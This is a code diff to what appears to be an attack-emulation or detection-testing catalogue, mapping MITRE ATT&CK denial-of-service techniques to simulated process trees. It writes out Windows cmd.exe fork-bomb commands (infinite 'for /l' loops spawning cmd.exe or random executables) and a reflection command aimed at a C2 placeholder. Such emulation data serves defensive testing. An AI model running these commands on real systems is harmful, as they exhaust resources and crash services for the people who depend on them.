@@ -218,10 +218,17 @@ export const impact = [
     v("reflect", [{ cmd: "{{tools}}\\{{name}}.exe -r dns -t {{c2ip}}", net: [["8.8.8.8", 53]] }]),
   ]),
   t("T1499", "Endpoint denial of service", "A local service overwhelmed or crashed.", [
-    v("fork", ["cmd.exe /c for /l %i in (1,0,2) do start /b {{tmp}}\\{{rand}}.exe"]),
+    // The loop never ends: a burst of copies, each still running (the first few shown).
+    v("fork", [
+      { cmd: "cmd.exe /c for /l %i in (1,0,2) do start /b {{tmp}}\\{{rand}}.exe", as: "loop", keep: true },
+      ...Array.from({ length: 8 }, () => ({ cmd: "{{tmp}}\\{{rand}}.exe", parent: "loop", keep: true })),
+    ]),
   ]),
   t("T1499.001", "OS exhaustion flood", "Resource exhaustion by spawning processes.", [
-    v("fork-bomb", ["cmd.exe /c for /l %i in (0,0,1) do start cmd.exe"]),
+    v("fork-bomb", [
+      { cmd: "cmd.exe /c for /l %i in (0,0,1) do start cmd.exe", as: "loop", keep: true },
+      ...Array.from({ length: 8 }, () => ({ cmd: "cmd.exe", parent: "loop", keep: true })),
+    ]),
   ]),
   // Floods come from a bot's DDoS module on the compromised host: the implant itself opens the connections.
   t("T1499.002", "Service exhaustion flood", "HTTP floods against an internal server.", [
